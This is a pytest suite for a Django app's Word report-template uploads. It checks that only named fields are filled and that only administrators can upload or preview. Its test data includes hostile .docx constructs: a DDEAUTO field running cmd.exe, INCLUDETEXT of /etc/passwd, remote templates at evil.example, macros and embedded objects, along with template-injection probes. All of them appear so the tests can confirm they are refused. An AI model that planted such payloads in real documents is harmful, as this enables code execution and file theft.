"""Templates: filled by name, never run; what could act by itself is refused and named."""

import io
import zipfile

import docx
import pytest
from django.core.files.base import ContentFile
from django.urls import reverse

from qadam.base.errors import InvalidInputError, NotAllowedError
from qadam.documents.errors import UnreadableDocumentError
from qadam.reports.documents.templated import read_template
from qadam.reports.exports import report_file, template_preview
from qadam.reports.models import DocumentTemplate
from qadam.reports.services.reports import edit_report
from qadam.reports.services.sections import save_section
from qadam.reports.services.templates import upload_template
from tests.qadam.reports.reporting import section

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _own_storage(settings, tmp_path):
    settings.STORAGES = settings.STORAGES | {
        "default": {"BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": tmp_path}}
    }


def template(*paragraphs: str, header: str = "", change=None) -> bytes:
    """A Word document with paragraphs; `change` may alter its parts by name."""
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    if header:
        document.sections[0].header.paragraphs[0].text = header
    file = io.BytesIO()
    document.save(file)
    if change is None:
        return file.getvalue()
    with zipfile.ZipFile(file) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def external(kind: str, target: str):
    relation = (
        f'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )

    def change(parts: dict[str, bytes]) -> None:
        name = "word/_rels/document.xml.rels"
        parts[name] = parts[name].replace(b"</Relationships>", relation.encode())

    return change


def in_body(xml: str):
    def change(parts: dict[str, bytes]) -> None:
        parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:sectPr", xml.encode() + b"<w:sectPr", 1)

    return change


def field(code: str):
    return in_body(f'<w:p><w:r><w:instrText xml:space="preserve"> {code} </w:instrText></w:r></w:p>')


def split_field(code: str):
    runs = "".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in code)
    return in_body(f"<w:p>{runs}</w:p>")


HOSTILE = [
    (lambda parts: parts.update({"word/vbaProject.bin": b"x"}), "active-part", "macros"),
    (lambda parts: parts.update({"word/embeddings/oleObject1.bin": b"x"}), "active-part", "an embedded object"),
    (external("attachedTemplate", "http://evil.example/t.dotm"), "outside", "a template elsewhere"),
    (external("image", "http://evil.example/p.png"), "outside", "a picture elsewhere"),
    (external("hyperlink", "file:///etc/passwd"), "outside", "a link to a file"),
    (field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), "active-field", "a program"),
    (field('INCLUDETEXT "/etc/passwd"'), "active-field", "another file"),
    (field('INCLUDEPICTURE "http://evil.example/x"'), "active-field", "a picture by a field"),
    (split_field("DDEAUTO x"), "active-field", "a program in pieces"),
    (in_body('<w:altChunk r:id="rX"/>'), "active-part", "another document"),
]


@pytest.mark.parametrize(("change", "code", "reason"), HOSTILE, ids=[case[2] for case in HOSTILE])
def test_what_could_act_by_itself_is_refused(cast, change, code, reason):
    content = template("{{body}}", change=change)
    assert code in {error.code for error in read_template(content).errors}, reason
    with pytest.raises(InvalidInputError) as refused:
        upload_template(name="House", file=ContentFile(content), by=cast.administrator)
    assert refused.value.fields["file"]


FAULTY = [
    (("no field",), {"missing-field"}, "without the report"),
    (("{{body}}", "{{password}}"), {"unknown-field"}, "an unknown field"),
    (("{{body}}", "{{7*7}}"), {"unknown-field"}, "an expression"),
    (("{{body}}", "{{title.__class__.__mro__}}"), {"unknown-field"}, "an attribute"),
    (("{{body}}", "{% for x in y %}"), set(), "a tag of a template language is plain words"),
    (("before {{body}}",), {"not-alone"}, "the report inside a line"),
    (("{{body}}", "{{body}}"), {"twice"}, "the report twice"),
    (("{{body}}", "{{title"), {"open-field"}, "a field that is not closed"),
]


@pytest.mark.parametrize(("paragraphs", "codes", "reason"), FAULTY, ids=[case[2] for case in FAULTY])
def test_each_fault_is_named(paragraphs, codes, reason):
    assert {error.code for error in read_template(template(*paragraphs)).errors} == codes, reason


@pytest.mark.parametrize("content", [b"", b"text", b"PK\x03\x04"])
def test_what_is_no_document_is_refused(cast, content):
    with pytest.raises(UnreadableDocumentError):
        upload_template(name="House", file=ContentFile(content), by=cast.administrator)


def test_a_report_takes_the_look_of_a_template(report, cast):
    house = template("Ministry · {{title}}", "{{body}}", "{{verification}}", header="{{state}}, {{reference_date}}")
    made = upload_template(name="House", file=ContentFile(house), by=cast.administrator)
    edit_report(report_id=report.pk, version=1, changes={"template": made}, by=cast.coordinator)
    save_section(
        section_id=section(report).pk, version=1, text="{{7*7}} {{title}} stays words.[^Note.]", by=cast.coordinator
    )
    report.refresh_from_db()
    content = report_file(report, "docx").content
    document = docx.Document(io.BytesIO(content))
    texts = [paragraph.text for paragraph in document.paragraphs]
    assert texts[0] == f"Ministry · {report.title}"
    assert "{{7*7}} {{title}} stays words." in texts
    assert "Kyrgyzstan, 30 June 2026" in document.sections[0].header.paragraphs[0].text
    assert any("Draft of" in text for text in texts)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"Note." in archive.read("word/endnotes.xml")
    assert report_file(report, "docx").content == content


def test_only_the_administrator_uploads(cast, sign_in):
    with pytest.raises(NotAllowedError):
        upload_template(name="House", file=ContentFile(template("{{body}}")), by=cast.coordinator)
    client = sign_in(cast.administrator)
    file = ContentFile(template("{{body}}", "{{nothing}}"), name="house.docx")
    page = client.post(reverse("report_templates"), {"name": "House", "file": file})
    assert page.status_code == 422
    assert "{{nothing}}" in page.content.decode()
    many = ContentFile(template("before {{body}}", "{{nothing}}"), name="house.docx")
    faults = client.post(reverse("report_templates"), {"name": "House", "file": many}).context["form"].errors["file"]
    assert [fault.split(":")[0] for fault in faults] == ["Paragraph 1", "Paragraph 2"]  # each on a line of its own
    file = ContentFile(template("{{body}}"), name="house.docx")
    assert client.post(reverse("report_templates"), {"name": "House", "file": file}).status_code == 302


# the preview


def previewed(client, content: bytes, *, do: str = "preview"):
    data = {"name": "House", "file": ContentFile(content, name="house.docx"), "do": do}
    return client.post(reverse("report_templates"), data)


PLACED = [
    (("{{body}}", "x", "{{password}}"), "", "Paragraph 3", "{{password}} is no field", "an unknown field"),
    (("{{body}}", "{{title"), "", "Paragraph 2", "not closed: {{title", "a field that is not closed"),
    (("before {{body}}",), "", "Paragraph 1", "body must stand alone", "the report inside a line"),
    (("{{body}}",), "{{annexes}}", "Header, paragraph 1", "annexes may not stand in a header", "a block in the header"),
    (("nothing",), "", "The whole file", "body is missing", "without the report"),
]


@pytest.mark.parametrize(("paragraphs", "header", "place", "words", "reason"), PLACED, ids=[case[4] for case in PLACED])
def test_the_preview_names_each_error_by_its_place(cast, sign_in, paragraphs, header, place, words, reason):
    page = previewed(sign_in(cast.administrator), template(*paragraphs, header=header))
    assert page.status_code == 422
    faults = page.context["faults"]
    assert any(where == place and words in sentence for where, sentence in faults), (reason, faults)
    assert place in page.content.decode()
    assert not DocumentTemplate.objects.exists()


def test_fields_stand_on_the_page_as_they_are_written(cast, sign_in):
    page = sign_in(cast.administrator).get(reverse("report_templates")).content.decode()
    assert "<dd><code>{{title}}</code>" in page  # a name of a list begins with a capital letter, a value does not


def test_the_preview_fills_the_template_and_keeps_nothing(cast, sign_in):
    client = sign_in(cast.administrator)
    house = template("Ministry · {{title}}", "{{body}}", "{{annexes}}", "{{verification}}", header="{{state}}")
    page = previewed(client, house)
    assert page.status_code == 200
    texts = [text for _kind, _label, text in page.context["lines"]]
    assert "Ministry · Sample report: how a template is filled" in texts
    assert any("shows how your template looks" in text for text in texts)
    assert {name: count for name, _words, count in page.context["used"]}["{{symbol}}"] == 0
    word = previewed(client, house, do="preview_docx")
    assert "attachment" in word["Content-Disposition"]
    document = docx.Document(io.BytesIO(word.content))
    assert document.sections[0].header.paragraphs[0].text == "Illustria"
    assert not DocumentTemplate.objects.exists()


@pytest.mark.parametrize("language", ["en", "ru", "kk"])
def test_the_sample_report_stands_in_every_language(language):
    made = template_preview(template("{{title}}", "{{body}}", "{{annexes}}"), language)
    texts = [paragraph.text for paragraph in docx.Document(io.BytesIO(made.content)).paragraphs]
    assert len([text for text in texts if text]) >= 8


@pytest.mark.parametrize(("change", "code", "reason"), HOSTILE, ids=[case[2] for case in HOSTILE])
def test_the_preview_of_a_hostile_template_names_the_danger_and_fills_nothing(cast, sign_in, change, code, reason):
    client = sign_in(cast.administrator)
    for do in ("preview", "preview_docx"):
        page = previewed(client, template("{{body}}", change=change), do=do)
        assert page.status_code == 422, reason
        assert page["Content-Type"].startswith("text/html")
        assert page.context["faults"]
        assert "lines" not in page.context


def test_markup_in_a_template_stays_words_on_the_page(cast, sign_in):
    page = previewed(sign_in(cast.administrator), template("<script>alert(1)</script>", "{{body}}"))
    assert "<script>alert" not in page.content.decode()


@pytest.mark.parametrize("content", [b"text", b"PK\x03\x04"])
def test_the_preview_of_what_is_no_document_says_so(cast, sign_in, content):
    assert previewed(sign_in(cast.administrator), content).status_code in (415, 422)


def test_a_kept_template_is_previewed_by_administrators_alone(cast, sign_in):
    made = upload_template(name="House", file=ContentFile(template("{{title}}", "{{body}}")), by=cast.administrator)
    address = reverse("report_template_preview", args=[made.pk])
    assert "how a template is filled" in sign_in(cast.administrator).get(address).content.decode()
    assert "attachment" in sign_in(cast.administrator).get(address + "?form=docx")["Content-Disposition"]
    for person in (cast.coordinator, cast.focal_point, cast.civil_society, cast.stranger):
        assert sign_in(person).get(address).status_code == 403
    assert previewed(sign_in(cast.coordinator), template("{{body}}")).status_code == 403
